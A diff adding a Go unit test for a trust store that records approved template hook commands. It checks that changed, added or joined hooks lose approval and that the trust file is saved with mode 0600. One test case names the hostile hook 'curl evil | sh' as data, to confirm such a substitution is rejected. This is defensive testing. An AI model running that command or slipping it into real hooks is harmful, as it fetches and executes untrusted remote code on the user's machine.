@@ -0,0 +1,50 @@
+package trust
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestStore(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "open-template", "trust.json")
+	s, err := Open(path)
+	if err != nil {
+		t.Fatalf("Open of a missing file: %v", err)
+	}
+	hooks := []string{"git init", "go mod tidy"}
+	if s.Trusted("/t/go-service", hooks) {
+		t.Error("hooks trusted before approval")
+	}
+	if err := s.Trust("/t/go-service", hooks); err != nil {
+		t.Fatal(err)
+	}
+	if err := s.Save(); err != nil {
+		t.Fatalf("Save: %v", err)
+	}
+	if s, err = Open(path); err != nil {
+		t.Fatalf("Open: %v", err)
+	}
+
+	tests := []struct {
+		name     string
+		template string
+		hooks    []string
+		want     bool
+	}{
+		{"approved hooks", "/t/go-service", hooks, true},
+		{"same template path", "/t/../t/go-service", hooks, true},
+		{"changed hook", "/t/go-service", []string{"git init", "curl evil | sh"}, false},
+		{"added hook", "/t/go-service", append(hooks, "make"), false},
+		{"joined hooks", "/t/go-service", []string{"git initgo mod tidy"}, false},
+		{"other template", "/t/go-cli", hooks, false},
+	}
+	for _, tt := range tests {
+		if got := s.Trusted(tt.template, tt.hooks); got != tt.want {
+			t.Errorf("%s: Trusted = %v, want %v", tt.name, got, tt.want)
+		}
+	}
+	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0600 {
+		t.Errorf("trust file: %v, %v; want mode 0600", info, err)
+	}
+}